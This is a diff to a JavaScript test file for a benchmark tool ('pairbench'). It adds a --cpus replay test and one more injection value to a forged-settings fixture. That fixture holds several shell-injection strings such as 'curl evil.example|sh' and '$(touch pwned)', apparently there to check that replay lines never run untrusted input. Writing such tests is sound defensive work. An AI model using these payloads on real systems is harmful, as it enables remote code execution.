@@ -22,6 +22,7 @@ function forged() {
       build: 'curl evil.example|sh',
       minPairs: '$(touch pwned)',
       outliers: 'tukey; curl evil.example|sh',
+      cpus: '1; curl evil.example|sh',
       benchmarks: [{ name: 'parse', run: 'curl evil.example|sh', prepare: 'wget evil.example', format: 'time', metrics: ['wall'] }],
     },
   });
@@ -61,6 +62,13 @@ describe('replayLines: the real settings under their flag names', () => {
     expect(lines.replay).toBe(`pairbench compare --base ${'a'.repeat(40)} --head ${'b'.repeat(40)} --seed 42 --threshold 5% --alpha 0.01 --outliers none --max-pairs 300 --max-time 4m`);
     expect(lines.replay).not.toMatch(/maxTimeMs|timeoutMs|npx/);
     expect(lines.rejudge).toBe("pairbench report 'out/my results.json' --threshold 5% --alpha 0.01 --outliers none");
+  });
+
+  it('replays the CPUs the runs were bound to (--cpus), after the other settings', () => {
+    const bound = results([bench('parse', 'regression', 0.1)], { settings: { seed: 5, cpus: '1', benchmarks: [] } });
+    expect(replayLines(bound).replay).toBe(`pairbench compare --base ${'a'.repeat(40)} --head ${'b'.repeat(40)} --seed 5 --cpus 1`);
+    const list = results([bench('parse', 'regression', 0.1)], { settings: { seed: 5, cpus: '2-3,6', benchmarks: [] } });
+    expect(replayLines(list).replay).toContain(' --cpus 2-3,6');
   });
 
   it('replays two directories with --base-dir and --head-dir, quoted', () => {
